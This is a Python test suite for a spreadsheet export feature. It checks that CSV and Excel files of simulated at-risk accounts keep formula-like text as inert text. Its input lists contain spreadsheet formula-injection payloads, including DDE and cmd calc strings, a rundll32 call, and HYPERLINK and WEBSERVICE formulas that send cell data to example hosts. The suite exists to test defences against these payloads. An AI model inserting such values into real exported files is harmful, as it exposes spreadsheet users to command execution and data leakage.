"""Exports: numbers stay numbers, dates dates, and text that looks like a formula stays text."""

import csv
import io
from dataclasses import replace
from datetime import date, datetime
from itertools import product
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine

from features.errors import UsageError
from serving.acting.states import AccountState
from serving.export import csv_lines, looks_like_formula, write_csv, write_xlsx
from serving.publish import publish
from serving.risk_list import Choice, PublishedList, read_list

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫")
BEFORE = (
    "", " ", "\t", "\r", "\n", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u200f", "\u202e", "\u2028", "'", '"',
)  # fmt: skip
FORMULAS = [
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")', "=MSEXCEL|'\\..\\..\\system32\\cmd.exe'!''", "=rundll32|'URL.dll,Open'!_xlbgnm.A1",
    '=HYPERLINK("http://example.com?x="&A1,"name")', '=IMPORTXML(CONCAT("//a",A1),"//b")', '=IMAGE("http://a.example")',
    '=WEBSERVICE("http://a.example")', "{=1+1}"[1:], "=1+1;=1+1", "=1+1,=1+1", "=1\n=2", '=""&"x"', "='x'!A1",
    "==1", "=", "+", "-", "@", "\t", "\r", "\n", "\t\t=1", "\u200b\ufeff \u200f=1", "''=1", "+1-555-0100", "-1e5",
    "=" * 300, "=" + "A1+" * 12_000 + "1", "@import", "-x", "=💥", "＝ＳＵＭ（Ａ１）",
]  # fmt: skip
NASTY = list(dict.fromkeys([f"{blank}{sign}1+1" for blank, sign in product(BEFORE, SIGNS)] + FORMULAS))
ORDINARY = ["Account 0042", "3-in-1", "Ärzte & Co", "a=b", "", "Ünal", "“Quote” Ltd", "(=)", "名前", "💥", '";=1'[1:]]
ODD = {"two\nlines": "two\nlines", "a\x00b": "a�b", "half \ud83d": "half �", "💥" * 9: "💥" * 9, "_x0041_": "_x0041_"}


def named(published: PublishedList, names: list[str]) -> PublishedList:
    """The list with a row per name, which is also the owner's, the segment's and the first reason's."""
    row = published.rows[0]
    why = tuple(replace(each) for each in row.reasons)
    rows = [
        replace(
            row, rank=i, account_id=name, name=name, owner=name, segment=name, reasons=(replace(why[0], text=name),)
        )
        for i, name in enumerate(names, 1)
    ]
    return replace(published, rows=rows)


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def as_csv(published: PublishedList) -> str:
    stream = io.StringIO(newline="")
    write_csv(published, stream)
    return stream.getvalue()


def sheet_of(published: PublishedList, **more: Any) -> Any:
    stream = io.BytesIO()
    write_xlsx(published, stream, **more)
    return load_workbook(stream)["Accounts at risk"]


def as_read(cell: str) -> str:
    """What a workbook's text says: openpyxl leaves the escapes of control characters as they are."""
    return cell.replace("_x000D_", "\r").replace("_x005F_", "_")


def test_two_hundred_formula_like_names_read_back_from_csv_with_only_a_quote_before(published: Engine) -> None:
    assert len(NASTY) >= 200
    rows = read_csv(as_csv(named(read_list(published), NASTY)))
    for field in ("account_id", "name", "owner", "segment", "reason_1"):
        assert [row[field] for row in rows] == [f"'{name}" for name in NASTY]


def test_the_same_names_are_unchanged_text_and_no_formula_in_a_workbook(published: Engine) -> None:
    sheet = sheet_of(named(read_list(published), NASTY))
    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
    cells = [sheet.cell(line, 3) for line in range(2, len(NASTY) + 2)]
    short = [(cell, name) for cell, name in zip(cells, NASTY, strict=True) if len(name) < 32_000]
    assert [as_read(cell.value) for cell, _ in short] == [name for _, name in short]
    assert {(cell.data_type, cell.quotePrefix) for cell in cells} == {("s", True)}


def test_ordinary_names_are_left_as_they_are(published: Engine) -> None:
    assert not [name for name in ORDINARY if looks_like_formula(name)]
    rows = read_csv(as_csv(named(read_list(published), ORDINARY)))
    assert [row["name"] for row in rows] == ORDINARY


def test_odd_text_breaks_neither_file(published: Engine) -> None:
    shown = named(read_list(published), list(ODD))
    rows = read_csv(as_csv(shown).encode().decode())
    assert [row["name"] for row in rows] == list(ODD.values())
    sheet = sheet_of(shown)
    assert [as_read(sheet.cell(line, 3).value) for line in range(2, len(ODD) + 2)] == list(ODD.values())


@pytest.mark.parametrize("letter", ["x", "💥"])
def test_a_name_of_forty_thousand_letters_is_whole_in_csv_and_as_long_as_a_cell_can_be(
    published: Engine, letter: str
) -> None:
    shown = named(read_list(published), [letter * 40_000])
    csv.field_size_limit(200_000)
    assert read_csv(as_csv(shown))[0]["name"] == letter * 40_000
    cell = sheet_of(shown).cell(2, 3).value
    assert cell == letter * (32_000 // len(letter.encode("utf-16-le")) * 2) + "…"


def test_csv_numbers_and_dates_read_back(published: Engine) -> None:
    row = read_csv(as_csv(read_list(published)))[0]
    first = read_list(published).rows[0]
    assert (int(row["rank"]), float(row["risk_90"])) == (1, pytest.approx(first.risk_90, abs=1e-6))
    assert (row["renewal_date"], row["change"]) == (str(first.renewal_date), "")


def test_xlsx_has_numbers_dates_and_a_header_that_stays(published: Engine, tmp_path: Path) -> None:
    write_xlsx(read_list(published), tmp_path / "list.xlsx")
    book = load_workbook(tmp_path / "list.xlsx")
    sheet = book["Accounts at risk"]
    head = {cell.value: cell.column for cell in sheet[1]}
    shown = {title: sheet.cell(2, place) for title, place in head.items()}
    first = read_list(published).rows[0]
    assert shown["Risk within 90 days"].value == pytest.approx(first.risk_90, abs=1e-12)
    assert shown["Renewal date"].value == datetime.combine(first.renewal_date or date.min, datetime.min.time())
    assert (shown["Renewal date"].number_format, shown["ARR"].number_format) == ("d mmm yyyy", "#,##0")
    assert (sheet.freeze_panes, sheet.auto_filter.ref.split(":")[0]) == ("D2", "A1")
    assert [row[2].value for row in book["Not scored"].iter_rows(min_row=2)] == ["notice was given", "joined last week"]
    assert ("Simulated", "Every account and number in this file is simulated.") in list(book["About"].values)


def test_what_the_list_knows_of_an_account_is_in_both_files(published: Engine) -> None:
    known: dict[str, Any] = {
        "saveable": 1234.5, "driver": "Logins", "weeks_listed": 3, "sponsor": "left",
        "sponsor_since": date(2026, 8, 1), "customer_contact": date(2026, 7, 2), "last_use": date(2026, 9, 5),
    }  # fmt: skip
    shown = read_list(published)
    shown = replace(shown, rows=[replace(shown.rows[0], **known), replace(shown.rows[1], **dict.fromkeys(known))])
    full, empty = read_csv(as_csv(shown))
    assert {name: full[name] for name in known} == {name: str(value) for name, value in known.items()}
    assert {empty[name] for name in known} == {""}
    cells = dict(zip(*list(sheet_of(shown).values)[:2], strict=True))
    assert (cells["ARR that can still be saved"], cells["Weeks on the list"]) == (1234.5, 3)
    assert (cells["Sponsor"], cells["Last use"]) == ("left", datetime(2026, 9, 5))  # noqa: DTZ001


def test_what_people_said_is_in_both_files_and_empty_where_nobody_did(published: Engine, at: datetime) -> None:
    shown = read_list(published)
    first, second = shown.rows[:2]
    since = datetime.fromisoformat("2026-08-28T23:00:00")
    said = AccountState(stage="saving", stage_since=since, csm_band="Low", csm_reason="seasonal")
    said = replace(said, snooze_until=date(2026, 9, 21), next_action="=call", next_due=date(2026, 9, 10))
    states = {first.account_id: said}
    full, empty, *_ = read_csv("".join(csv_lines(shown, states, at)))
    assert (full["stage"], full["days_in_stage"], full["csm_band"]) == ("saving", "10", "Low")
    assert (full["final_band"], empty["final_band"]) == ("Low", second.band)
    assert (full["csm_reason"], full["snooze_until"], full["next_due"]) == ("seasonal", "2026-09-21", "2026-09-10")
    assert (full["next_action"], empty["next_action"], empty["days_in_stage"]) == ("'=call", "", "")
    cells = dict(zip(*list(sheet_of(shown, states=states, at=at).values)[:2], strict=True))
    assert (cells["Days in stage"], cells["Next action"], cells["Final band"]) == (10, "=call", "Low")
    assert "stage" not in as_csv(shown).split("\n", 1)[0]


def test_exports_hold_exactly_the_chosen_rows(published: Engine, tmp_path: Path) -> None:
    chosen = read_list(published, choice=Choice(owner=("Owner 02",), sort="arr"))
    write_xlsx(chosen, tmp_path / "list.xlsx")
    ids = [row[1] for row in list(load_workbook(tmp_path / "list.xlsx").worksheets[0].values)[1:]]
    assert ids == [row.account_id for row in chosen.rows]
    assert as_csv(chosen).count("\n") == len(chosen.rows) + 1 == 31


@pytest.mark.parametrize("rows", [0, 1, 499, 500, 501, 1000])
def test_no_row_is_lost_between_chunks(published: Engine, rows: int) -> None:
    shown = named(read_list(published), [f"A{i}" for i in range(rows)])
    assert [row["account_id"] for row in read_csv("".join(csv_lines(shown)))] == [f"A{i}" for i in range(rows)]


def test_rows_beyond_a_sheet_are_refused_instead_of_cut_off(
    published: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("serving.export_xlsx.LONGEST_SHEET", 60)
    with pytest.raises(UsageError, match="59 rows below its head, not 60: take CSV"):
        write_xlsx(read_list(published), tmp_path / "list.xlsx")
    monkeypatch.setattr("serving.export_xlsx.LONGEST_SHEET", 61)
    write_xlsx(read_list(published), tmp_path / "list.xlsx")


def test_numbers_that_a_sheet_cannot_hold_are_left_empty(published: Engine) -> None:
    shown = read_list(published)
    rows = [replace(shown.rows[0], arr=float("nan"), seats=float("inf"), renewal_date=date(1899, 1, 2))]
    cells = dict(zip(*list(sheet_of(replace(shown, rows=rows)).values), strict=True))
    assert (cells["ARR"], cells["Seats"], cells["Renewal date"]) == (None, None, "2 Jan 1899")


def test_the_same_list_gives_the_same_bytes(published: Engine) -> None:
    files = [io.BytesIO(), io.BytesIO()]
    for file in files:
        write_xlsx(read_list(published), file)
    assert files[0].getvalue() == files[1].getvalue()


def test_a_workbook_that_cannot_be_finished_leaves_nothing(
    published: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "list.xlsx").write_text("the previous one")
    monkeypatch.setattr("serving.export_xlsx._about", lambda published: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        write_xlsx(read_list(published), tmp_path / "list.xlsx")
    assert [path.name for path in tmp_path.glob("*.xlsx")] == ["list.xlsx"]
    assert not list(tmp_path.glob(".*"))
    assert (tmp_path / "list.xlsx").read_text() == "the previous one"


def test_formula_like_names_come_through_a_database_as_they_went_in(database: Engine, scored: Any, at: Any) -> None:
    names = [name for name in NASTY if "\x00" not in name][:60]
    scored.rows["name"] = names
    publish(database, scored, at=at, by="tests")
    assert [row["name"] for row in read_csv(as_csv(read_list(database)))] == [f"'{name}" for name in names]
